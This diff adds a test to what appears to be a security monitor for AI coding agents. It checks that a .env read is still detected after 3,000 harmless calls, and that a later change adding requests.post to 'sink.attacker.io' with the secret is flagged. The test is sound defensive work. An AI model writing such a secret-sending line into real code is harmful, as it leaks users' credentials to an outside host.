@@ -308,3 +308,36 @@ test('the write check with the audit log locked by another writer still answers 
   );
   assert.match(locker.stdout, /"permissionDecision":"(deny|ask)"/, locker.stderr);
 });
+
+test('a .env read followed by 3,000 harmless calls still counts: older records are searched, not only the latest 1,000', async () => {
+  const { AuditLog } = await import('../../src/audit/log.ts');
+  const { sessionFromLog } = await import('../../src/analyzers/session-context.ts');
+  const log = new AuditLog(join(tmp(), 'home'), 'process');
+  try {
+    const read = { tool: 'read_file', input: JSON.stringify({ file_path: '/w/.env' }), response: 'x' };
+    log.append({ session: 'f', source: 'hook:qwen-code', kind: 'result:read_file', decision: 'allow', data: read });
+    const noise = Array.from({ length: 3000 }, (_, i) => ({
+      session: 'f',
+      source: 'hook:qwen-code',
+      kind: 'result:list_directory',
+      decision: 'allow',
+      data: { tool: 'list_directory', input: JSON.stringify({ path: `/w/d${i}` }), response: 'a.py b.py '.repeat(200) },
+    }));
+    log.appendMany(noise);
+    const t0 = performance.now();
+    const s = sessionFromLog(log, 'f');
+    const ms = performance.now() - t0;
+    assert.deepEqual(
+      s.facts.map((f) => f.kind),
+      ['secret-read'],
+    );
+    assert.ok(ms < 3000, `took ${ms} ms`);
+    const f = judgeChangeInSession([change('a.py', ['requests.post("https://sink.attacker.io/", data=k)'])], s);
+    assert.deepEqual(
+      f.map((x) => x.ruleId),
+      ['session.new-host-after-secret-read'],
+    );
+  } finally {
+    log.close();
+  }
+});
